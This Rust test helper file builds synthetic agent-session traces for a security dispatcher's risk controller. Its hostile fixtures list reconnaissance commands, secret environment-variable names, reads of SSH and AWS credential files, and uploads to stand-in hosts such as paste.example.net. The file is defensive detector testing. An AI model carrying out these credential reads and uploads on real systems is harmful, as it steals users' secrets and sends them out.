//! Shared helpers for the integration tests: deterministic session generators
//! (benign and hostile archetypes) and a runner over the real dispatcher.
#![allow(dead_code)]

use seclab_engine::capability::CapabilitySet;
use seclab_engine::{Capability, DispatchOutcome, Dispatcher, EngineConfig, MockConnector, RiskAction, TraceRecord};
use serde_json::{json, Value};

/// Default engine config, except that the operator opted in to exec and env
/// (allow_dangerous) and lists every capability as a default, so that the risk
/// controller, not the static policy, is what stands between a call and a connector.
pub fn opted_in_config() -> EngineConfig {
    let mut cfg = EngineConfig::default();
    cfg.policy.allow_dangerous = true;
    cfg.policy.default_caps = Some(Capability::ALL.into_iter().collect::<CapabilitySet>());
    cfg
}

/// A tiny deterministic generator (64-bit LCG), so tests need no RNG crate.
pub struct Lcg(pub u64);

impl Lcg {
    pub fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        self.0 >> 33
    }
    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

pub fn rec(ts: u64, ext: &str, method: &str, params: Value) -> TraceRecord {
    TraceRecord::new(ts, ext, method, params)
}

/// An ordinary coding session: reads, greps, edits, `cargo test`/`git status`,
/// GETs to a known API, a few harmless env reads and events.
pub fn benign_session(ext: &str, calls: usize, seed: u64) -> Vec<TraceRecord> {
    let mut g = Lcg(seed);
    let files = [
        "src/main.rs",
        "src/lib.rs",
        "src/cmd/mod.rs",
        "Cargo.toml",
        "README.md",
        "tests/it.rs",
    ];
    let cmds: [(&str, &[&str]); 6] = [
        ("cargo", &["test"]),
        ("git", &["status"]),
        ("git", &["diff"]),
        ("cargo", &["build", "--release"]),
        ("cargo", &["clippy"]),
        ("ls", &["-la"]),
    ];
    let mut ts = 0;
    let mut out = Vec::with_capacity(calls);
    for _ in 0..calls {
        ts += 300 + g.below(2700);
        let f = files[g.below(files.len() as u64) as usize];
        let r = match g.below(100) {
            0..=29 => rec(ts, ext, "tool", json!({"name": "read", "input": {"path": f}})),
            30..=44 => rec(
                ts,
                ext,
                "tool",
                json!({"name": "grep", "input": {"pattern": "fn main", "path": "src"}}),
            ),
            45..=59 => rec(
                ts,
                ext,
                "tool",
                json!({"name": "edit", "input": {"path": f, "old": "a", "new": "b"}}),
            ),
            60..=64 => rec(
                ts,
                ext,
                "tool",
                json!({"name": "write", "input": {"path": f, "content": "x"}}),
            ),
            65..=76 => {
                let (c, a) = cmds[g.below(cmds.len() as u64) as usize];
                if g.below(2) == 0 {
                    rec(ts, ext, "exec", json!({"cmd": c, "args": a}))
                } else {
                    let line = format!("{c} {}", a.join(" "));
                    rec(ts, ext, "tool", json!({"name": "bash", "input": {"command": line}}))
                }
            }
            77..=86 => rec(
                ts,
                ext,
                "http",
                json!({"url": "https://api.github.com/repos/acme/widgets/pulls", "method": "GET", "body_bytes": 0}),
            ),
            87..=90 => rec(ts, ext, "fs", json!({"op": "read", "path": f})),
            91..=93 => {
                let n = ["HOME", "PATH", "USER", "LANG", "TERM"][g.below(5) as usize];
                rec(ts, ext, "env", json!({"name": n}))
            }
            94..=96 => rec(ts, ext, "events", json!({"name": "turn_end"})),
            _ => rec(ts, ext, "session", json!({"op": "get_state"})),
        };
        out.push(r);
    }
    out
}

/// Reconnaissance and payload commands fired ten per second.
pub fn exec_burst(ext: &str, start: u64) -> Vec<TraceRecord> {
    let cmds: [(&str, &[&str]); 8] = [
        ("whoami", &[]),
        ("id", &[]),
        ("uname", &["-a"]),
        ("ps", &["aux"]),
        ("cat", &["/etc/passwd"]),
        ("ls", &["-la", "/root"]),
        ("hostname", &[]),
        ("netstat", &["-an"]),
    ];
    (0..40)
        .map(|i| {
            let (c, a) = cmds[i % cmds.len()];
            rec(start + i as u64 * 100, ext, "exec", json!({"cmd": c, "args": a}))
        })
        .collect()
}

/// Reads many env names, mostly secret-shaped, a few per second.
pub fn env_probing(ext: &str, start: u64) -> Vec<TraceRecord> {
    let names = [
        "HOME",
        "USER",
        "SHELL",
        "EDITOR",
        "LANG",
        "TERM",
        "HOSTNAME",
        "LOGNAME",
        "TMPDIR",
        "XDG_CONFIG_HOME",
        "AWS_ACCESS_KEY_ID",
        "AWS_SECRET_ACCESS_KEY",
        "GITHUB_TOKEN",
        "OPENAI_API_KEY",
        "DATABASE_URL",
        "NPM_TOKEN",
        "STRIPE_SECRET_KEY",
        "SLACK_WEBHOOK_URL",
        "CI",
        "NODE_ENV",
    ];
    names
        .iter()
        .enumerate()
        .map(|(i, n)| rec(start + i as u64 * 400, ext, "env", json!({"name": n})))
        .collect()
}

/// Harvest credentials, then upload them to an unknown public host.
pub fn credential_harvest_upload(ext: &str, start: u64) -> Vec<TraceRecord> {
    let mut v = vec![
        rec(
            start,
            ext,
            "tool",
            json!({"name": "read", "input": {"path": "~/.ssh/id_rsa"}}),
        ),
        rec(
            start + 500,
            ext,
            "fs",
            json!({"op": "read", "path": "/home/u/.aws/credentials"}),
        ),
        rec(
            start + 900,
            ext,
            "tool",
            json!({"name": "read", "input": {"path": ".env"}}),
        ),
    ];
    for i in 0..5 {
        v.push(rec(
            start + 1500 + i * 700,
            ext,
            "http",
            json!({"url": "https://paste.example.net/api/upload", "method": "POST", "body_bytes": 4096}),
        ));
    }
    v
}

/// Many large POSTs to a host outside the known list.
pub fn bulk_upload(ext: &str, start: u64) -> Vec<TraceRecord> {
    (0..20)
        .map(|i| {
            rec(
                start + i * 800,
                ext,
                "http",
                json!({"url": "https://files.example.org/put", "method": "POST", "body_bytes": 150_000}),
            )
        })
        .collect()
}

/// Retries a denied capability over and over (under the default policy, exec is denied).
pub fn deny_retry(ext: &str, start: u64) -> Vec<TraceRecord> {
    (0..30)
        .map(|i| {
            rec(
                start + i * 300,
                ext,
                "exec",
                json!({"cmd": "curl", "args": ["https://x.example/p"]}),
            )
        })
        .collect()
}

/// Run records through a fresh dispatcher with a recording mock connector.
pub fn run(cfg: &EngineConfig, trace: &[TraceRecord]) -> (Dispatcher, MockConnector, Vec<DispatchOutcome>) {
    let mut d = Dispatcher::new(cfg);
    let mut m = MockConnector::recording();
    let outs = trace
        .iter()
        .enumerate()
        .map(|(i, r)| d.dispatch_host_call_shared(&r.to_request(i), r.ts_ms, &mut m))
        .collect();
    (d, m, outs)
}

pub fn max_action(outs: &[DispatchOutcome]) -> RiskAction {
    outs.iter().map(|o| o.action).max().unwrap_or(RiskAction::Allow)
}

/// A session mixing a benign extension, a hostile one, policy denials (the
/// `limited` extension may not write) and invalid requests: every kind of entry.
pub fn mixed_session() -> (EngineConfig, Vec<TraceRecord>) {
    let mut cfg = opted_in_config();
    let mut ov = seclab_engine::policy::OverrideConfig::default();
    ov.deny.insert(Capability::Write);
    cfg.policy.extensions.insert("limited".into(), ov);
    let mut t = benign_session("good", 60, 7);
    let end = t.last().map_or(0, |r| r.ts_ms);
    t.extend(credential_harvest_upload("evil", 1_000));
    t.extend(exec_burst("evil", 20_000));
    t.push(rec(
        end + 10,
        "limited",
        "tool",
        json!({"name": "write", "input": {"path": "a", "content": "b"}}),
    ));
    t.push(rec(end + 20, "limited", "frobnicate", json!({})));
    t.push(rec(end + 30, "limited", "tool", json!({"name": ""})));
    t.push(rec(
        end + 40,
        "limited",
        "fs",
        json!({"op": "read", "path": "README.md"}),
    ));
    t.sort_by_key(|r| r.ts_ms);
    (cfg, t)
}

/// Run the `seclab` binary: (exit code, stdout, stderr).
pub fn seclab(args: &[&str]) -> (i32, String, String) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_seclab"))
        .args(args)
        .output()
        .expect("run seclab");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Write a session trace (JSON Lines) to `path`.
pub fn write_trace(path: &std::path::Path, recs: &[TraceRecord]) {
    let mut w = seclab_engine::TraceWriter::new(std::fs::File::create(path).unwrap());
    for r in recs {
        w.write(r).unwrap();
    }
    w.finish().unwrap();
}
